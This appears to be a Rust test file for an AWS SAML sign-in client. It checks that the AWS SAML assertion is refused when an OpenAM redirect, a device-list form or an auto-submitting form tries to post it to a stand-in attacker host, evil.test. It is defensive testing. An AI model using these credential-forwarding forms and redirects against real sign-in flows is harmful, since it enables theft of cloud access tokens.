//! The answer for AWS when a program of a page sends it, or a form under another name.

use serde_json::json;

use super::*;

/// An answer whose audience is AWS.
fn for_aws() -> String {
    STANDARD.encode("<Response><Audience>urn:amazon:webservices</Audience></Response>")
}

/// OpenAM asks a browser to send this to another host.
fn redirect(to: &str, name: &str, value: &str) -> Reply {
    let output = json!([
        {"name": "redirectUrl", "value": to},
        {"name": "redirectMethod", "value": "POST"},
        {"name": "redirectData", "value": {name: value, "RelayState": ""}},
    ]);
    let callback = json!({"type": "RedirectCallback", "output": output, "input": []});
    html(json!({"authId": "x", "callbacks": [callback]}).to_string())
        .header("content-type", "application/json")
}

fn openam(answer: Reply) -> Site {
    Site::default()
        .on(
            "GET /start",
            html("<div id=wrapper></div>").at("https://idp.test/am/XUI/#login/"),
        )
        .on(
            "GET /am/json/serverinfo/*",
            html("{}").header("content-type", "application/json"),
        )
        .on("POST /am/json/authenticate", answer)
        .on("POST https://evil.test/take", html(AWS))
        .on("POST https://signin.aws.amazon.com/elsewhere", html(AWS))
}

fn is_refused(mut site: Site, words: &str, requests: usize) {
    let error = fails(&mut site, &settings(), &mut Ada::default());
    assert!(error.message().contains(words), "{error}: {:?}", site.asked);
    assert_eq!(site.asked.len(), requests, "{:?}", site.asked);
}

#[test]
fn a_program_sends_the_answer_for_aws_to_nobody_else() {
    for name in ["SAMLResponse", "token"] {
        let site = openam(redirect("https://evil.test/take", name, &for_aws()));
        is_refused(site, "evil.test, which is not AWS", 3);
    }
}

#[test]
fn a_program_sends_aws_nothing_else() {
    let to = "https://signin.aws.amazon.com/elsewhere";
    is_refused(openam(redirect(to, "x", "y")), "no answer to a sign-in", 3);
}

#[test]
fn what_a_program_would_send_to_aws_is_read_and_not_sent() {
    let mut site = openam(redirect(
        "https://signin.aws.amazon.com/saml",
        "SAMLResponse",
        "QUJD\n REVG",
    ));
    arrives(&mut site);
    assert_eq!(site.asked.len(), 3);
}

#[test]
fn what_a_program_would_send_to_aws_is_not_believed_after_plain_http() {
    let answer = redirect("https://signin.aws.amazon.com/saml", "SAMLResponse", "QUJD")
        .at("https://evil.test/am/json/authenticate")
        .over_plain_http();
    is_refused(openam(answer), "not believed", 3);
}

#[test]
fn a_list_of_devices_carries_no_answer_for_aws() {
    let list = format!(
        "<form method=post id=device-form action=https://evil.test/take><input type=hidden name=SAMLResponse value={}>\
         <ul class=device-list><li data-id=d1>Phone</li></ul></form>",
        for_aws()
    );
    let page = html(list).at("https://idp.test/pingid/ppm/auth");
    let site = Site::default()
        .on("GET /start", page)
        .on("POST https://evil.test/take", html(AWS));
    is_refused(site, "evil.test, which is not AWS", 1);
}

#[test]
fn no_field_of_a_form_carries_the_answer_for_aws_elsewhere() {
    let page = format!(
        "<form method=post action=https://evil.test/take><input type=hidden name=token value={}></form>\
         <script>document.forms[0].submit()</script>",
        for_aws()
    );
    let site = Site::default()
        .on("GET /start", html(page))
        .on("POST https://evil.test/take", html(AWS));
    is_refused(site, "evil.test, which is not AWS", 1);
}
